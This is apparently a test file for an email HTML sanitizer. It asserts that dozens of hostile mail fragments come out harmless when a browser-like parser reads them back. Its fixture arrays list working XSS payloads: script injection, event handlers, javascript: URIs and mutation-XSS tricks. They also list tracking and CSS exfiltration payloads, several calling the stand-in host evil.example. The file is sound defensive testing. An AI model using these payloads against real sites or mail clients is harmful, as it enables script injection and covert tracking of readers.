// Hostile mail. The result is read back with a parser that follows the HTML standard, as a browser would, so
// that what the cleaner and the browser understand differently shows.
import fc from 'fast-check';
import { type DefaultTreeAdapterMap, parse } from 'parse5';
import { describe, expect, it } from 'vitest';

import { cleanDeclarations, cleanStylesheet } from './css.ts';
import { MAIL_POLICY, mailDocument } from './document.ts';
import { sanitizeMail } from './sanitize.ts';

const pictureAt = (contentId: string) => (contentId === 'logo@x' ? '/api/emails/e/attachments/a' : null);
const clean = (html: string) => sanitizeMail(html, pictureAt);

/** Each tries to run something. */
const RUNNING = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)" onload=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:https://x/1">x</a><a href="file:///etc/passwd">x</a><a href="/api/links">x</a>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<style><img title="</style><img src=x onerror=alert(1)>"></style>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if mso]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?><?php alert(1) ?>',
  '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)"><applet code=x></applet>',
  '<form action="https://evil.example"><input name=p type=password><button formaction="javascript:alert(1)">x</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="https://evil.example/">',
  '<link rel=import href="//evil.example/x.html"><link rel=stylesheet href="javascript:alert(1)">',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="behavior:url(x.htc);-moz-binding:url(//evil.example/x.xml#x)">x</div>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="}</style><script>alert(1)</script>">x</div>',
  '<style></style><script>alert(1)</script>',
  '<style>a{color:red}</style </style ><img src=x onerror=alert(1)>',
  '<style>@import "javascript:alert(1)";</style>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<body onload=alert(1)><frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  '<marquee onstart=alert(1)>x</marquee><isindex type=image src=1 onerror=alert(1)>',
  '<p id="body" name="cookie">x</p><template><img src=x onerror=alert(1)></template><slot name=x></slot>',
  '<x-element onclick=alert(1)><portal src="https://evil.example"></portal>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>',
  '<a href="https://ok.example" target="_self" onclick="alert(1)" ping="https://evil.example">x</a>',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt><im\u0000g src=x onerror=alert(1)>',
  '<div\u000bonclick=alert(1)>x</div><div/onclick=alert(1)/>x</div>',
  `${'<div>'.repeat(2000)}<script>alert(1)</script>`,
];

/** Each tries to load something from elsewhere, or to leave its place on the page. */
const LEAKING = [
  '<img src="https://evil.example/pixel.gif" width=1 height=1>',
  '<img src="//evil.example/pixel.gif">',
  '<img src="\\\\evil.example\\pixel.gif">',
  '<img srcset="https://evil.example/1.png 1x, https://evil.example/2.png 2x">',
  '<picture><source srcset="https://evil.example/x.webp"><img src="https://evil.example/x.png"></picture>',
  '<table background="https://evil.example/x.png"><tr><td background="//evil.example/x.png">x</td></tr></table>',
  '<body background="https://evil.example/x.png">x',
  '<div style="background-image:url(https://evil.example/x.png)">x</div>',
  '<div style="background:#fff u\\72l(https://evil.example/x.png)">x</div>',
  '<div style="background:url/**/(https://evil.example/x.png)">x</div>',
  '<div style="list-style:url(https://evil.example/x.png)">x</div>',
  '<div style="background:image-set(\'https://evil.example/x.png\' 1x)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>',
  '<div style="position:absolute;top:-50px">x</div>',
  '<style>@import url("https://evil.example/x.css");</style>',
  '<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}</style>',
  '<style>input[value^="a"]{background:url(https://evil.example/a)}</style>',
  '<style>a{background:\\75rl(https://evil.example/a)}</style>',
  '<style>@media screen{body{background:url(https://evil.example/a)}}</style>',
  '<style>div{position:fixed;inset:0}</style>',
  '<style>@namespace svg url(https://evil.example);@charset "utf-7";@page{margin:0}@supports(display:grid){a{background:url(https://evil.example)}}</style>',
  '<style>a::after{content:url(https://evil.example/x.png)}</style>',
  '<style>:root{--x:url(https://evil.example/x.png)}a{background:var(--x)}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css"><link rel=prefetch href="//evil.example/y">',
  '<video poster="https://evil.example/x.png" src="https://evil.example/x.mp4"></video>',
  '<audio src="https://evil.example/x.mp3"></audio><embed src="https://evil.example/x.swf">',
  '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/x.svg"></object>',
  '<svg><image href="https://evil.example/x.png"/><use href="https://evil.example/x.svg#x"/></svg>',
  '<input type=image src="https://evil.example/x.png">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+"><img src="data:text/html,x">',
  '<img src="cid:unknown"><img src="/api/emails/other/attachments/x"><img src="x.png">',
  '<blockquote cite="https://evil.example">x</blockquote><q cite="https://evil.example">x</q>',
];

type Node = DefaultTreeAdapterMap['node'];
type Element = DefaultTreeAdapterMap['element'];

function elementsIn(html: string): Element[] {
  const found: Element[] = [];
  const visit = (node: Node): void => {
    if ('tagName' in node) found.push(node);
    if ('content' in node) visit(node.content);
    if ('childNodes' in node) for (const child of node.childNodes) visit(child);
  };
  visit(parse(html));
  return found;
}

const ALLOWED_ATTRIBUTES = new Set(
  `align valign bgcolor width height dir lang title class style border cellpadding cellspacing colspan rowspan nowrap
  color face size hspace vspace start scope abbr role href target rel src alt`.split(/\s+/),
);

/** Fails if a browser would find anything in the document that runs, loads from elsewhere or leaves its place. */
function expectHarmless(html: string): void {
  const result = clean(html);
  const document = mailDocument({ kind: 'html', ...result });
  const [root, head, ...rest] = elementsIn(document);
  expect([root?.tagName, head?.tagName]).toEqual(['html', 'head']);
  const bodyAt = rest.findIndex((element) => element.tagName === 'body');
  // Nothing of the mail got into the head but its style, which did not end early.
  const heads = ['meta', 'meta', 'meta', 'meta', 'style', ...(result.css === '' ? [] : ['style'])];
  expect(rest.slice(0, bodyAt).map((element) => element.tagName)).toEqual(heads);
  for (const element of rest.slice(bodyAt + 1)) expectHarmlessElement(element);
  expectHarmlessStyle(result.css);
}

function expectHarmlessElement(element: Element): void {
  expect(element.namespaceURI).toBe('http://www.w3.org/1999/xhtml');
  expect(element.tagName).toMatch(
    /^(a|abbr|acronym|address|article|aside|b|bdi|bdo|big|blockquote|br|caption|center|cite|code|col|colgroup|dd|del|dfn|div|dl|dt|em|figcaption|figure|font|footer|h[1-6]|header|hr|i|img|ins|kbd|li|main|mark|nav|ol|p|pre|q|rp|rt|ruby|s|samp|section|small|span|strike|strong|sub|sup|table|tbody|td|tfoot|th|thead|time|tr|tt|u|ul|var|wbr)$/,
  );
  const attributes = new Map(element.attrs.map(({ name, value }) => [name, value]));
  for (const name of attributes.keys())
    expect(ALLOWED_ATTRIBUTES, `${element.tagName} ${name}`).toContain(name);
  const src = attributes.get('src');
  if (src !== undefined)
    expect(src).toMatch(/^(\/api\/emails\/e\/attachments\/a|data:image\/(png|gif|jpe?g|webp);base64,)/);
  const href = attributes.get('href');
  if (href !== undefined) {
    expect(href).toMatch(/^(https?:\/\/|mailto:|tel:)/i);
    expect(attributes.get('target')).toBe('_blank');
    expect(attributes.get('rel')).toBe('noopener noreferrer nofollow');
  }
  expectHarmlessStyle(attributes.get('style') ?? '');
}

function expectHarmlessStyle(css: string): void {
  expect(css).not.toMatch(
    /url|image-set|expression|position|behavior|binding|@(?!media)|javascript|content\s*:|var\(|[\\<]/i,
  );
}

describe('hostile mail', () => {
  it.each(RUNNING)('runs nothing: %s', (html) => {
    expectHarmless(html);
    expectHarmless(`<p>before</p>${html}<p>after</p>`);
  });

  it.each(LEAKING)('loads nothing and stays in its place: %s', (html) => {
    expectHarmless(html);
  });

  it('stays harmless when its parts are mixed', () => {
    const part = fc.oneof(
      fc.constantFrom(...RUNNING, ...LEAKING),
      fc.constantFrom(
        '<table>',
        '</table>',
        '<td>',
        '<style>',
        '</style>',
        '<!--',
        '-->',
        '<svg>',
        '<math>',
        '"',
        "'",
        '<',
        '>',
      ),
      fc.string({ maxLength: 8 }),
    );
    fc.assert(
      fc.property(fc.array(part, { maxLength: 6 }), (parts) => expectHarmless(parts.join(''))),
      { numRuns: 300 },
    );
  });
});

describe('what was not loaded', () => {
  it('is counted', () => {
    const { blockedRemote } = clean(
      `<style>@import "https://t.example/a.css"; p{background:url(https://t.example/b.png)}</style>
      <img src="https://t.example/pixel.gif"><td background="//t.example/c.png">
      <div style="background-image:url('https://t.example/d.png')"><link rel=stylesheet href="https://t.example/e.css">`,
    );
    expect(blockedRemote).toBe(6);
  });

  it('leaves links and inline pictures out of the count', () => {
    expect(clean('<a href="https://ok.example">x</a><img src="cid:logo@x">').blockedRemote).toBe(0);
  });
});

describe('the height of a mail', () => {
  it.each([
    'min-height:100vh',
    'padding:1e1SVH 0',
    'height:calc(100dvh - 2px)',
    'font:5vmin Arial',
    'width:50vmax',
    'margin:2lvb',
    'max-width:10vi',
    'height:100cqh',
    'height:10v/**/h',
  ])('does not follow the height of its frame: %s', (style) => {
    expect(cleanDeclarations(`color:red;${style}`).css).toBe('color:red');
  });

  it.each(['(min-height: 500px)', '(max-aspect-ratio: 1/1)', '(orientation:portrait)', '(width: 90vh)'])(
    'is the same at any height of its frame: @media %s',
    (media) => expect(cleanStylesheet(`@media ${media} { p { color: red } }`).css).toBe(''),
  );

  it('may follow the width, which is not ours to change', () => {
    const style = 'width:100vw;font-family:Vhomer;height:10vhx';
    expect(cleanDeclarations(style).css).toBe(style);
  });

  it('is not taken from its frame by percentages, and its style sheets are not shown as text', () => {
    const css = 'html,body{height:100%!important}*{display:block!important}';
    const document = mailDocument({ kind: 'html', html: '<p>Hi</p>', css });
    const fixed = document.indexOf('@layer{head{display:none!important}html,body{height:auto!important');
    expect(fixed).toBeGreaterThan(0);
    expect(fixed).toBeLessThan(document.indexOf(css));
  });
});

describe('an honest newsletter', () => {
  const newsletter = `<html><head><title>News</title><style type="text/css"><!--
    .hero, td.x > a:hover { color: #0B5C8A; font-family: "Segoe UI", Arial !important; padding: 10px 4px }
    @media only screen and (max-width: 600px) { .hero { width: 100% !important } }
    @media (prefers-color-scheme: dark) { .hero { background: #000 } }
    --></style></head><body bgcolor="#F4F4F4" style="margin:0;background-color:#f4f4f4">
    <!--[if mso]><table><tr><td><![endif]-->
    <table width="600" cellpadding="0" align="center" style="border-collapse:collapse; mso-table-lspace:0pt">
      <tr><td class="hero" valign="top" style="padding:12px;background:#fff url(https://t.example/bg.png)">
        <img src="cid:logo%40x" alt="Logo" width="120"><h1>Spare parts &amp; service</h1>
        <a href="https://yard.example/?a=1&amp;b=2">Order</a> <font color="red" face="Arial">now</font>
      </td></tr></table></body></html>`;

  it('keeps its layout, words, links and inline pictures', () => {
    const { html, css } = clean(newsletter);
    expect(html).toContain('<div bgcolor="#F4F4F4" style="margin:0;background-color:#f4f4f4">');
    expect(html).toContain(
      '<table width="600" cellpadding="0" align="center" style="border-collapse:collapse;mso-table-lspace:0pt">',
    );
    expect(html).toContain('<td class="hero" valign="top" style="padding:12px">');
    expect(html).toContain('<img alt="Logo" width="120" src="/api/emails/e/attachments/a" />');
    expect(html).toContain('<h1>Spare parts &amp; service</h1>');
    expect(html).toContain('href="https://yard.example/?a=1&amp;b=2"');
    expect(html).toContain('<font color="red" face="Arial">now</font>');
    expect(html).not.toContain('News');
    expect(css).toBe(
      '.hero, td.x > a:hover{color:#0B5C8A;font-family:"Segoe UI", Arial!important;padding:10px 4px}\n' +
        '@media only screen and (max-width: 600px){.hero{width:100%!important}\n}\n',
    );
  });

  it('stands in a document that forbids what it forbids', () => {
    const document = mailDocument({ kind: 'html', ...clean(newsletter) });
    expect(document).toContain(`<meta http-equiv="Content-Security-Policy" content="${MAIL_POLICY}">`);
    expect(document.indexOf('Content-Security-Policy')).toBeLessThan(document.indexOf('<style>'));
    expect(document).toContain('<body dir="auto">');
  });
});
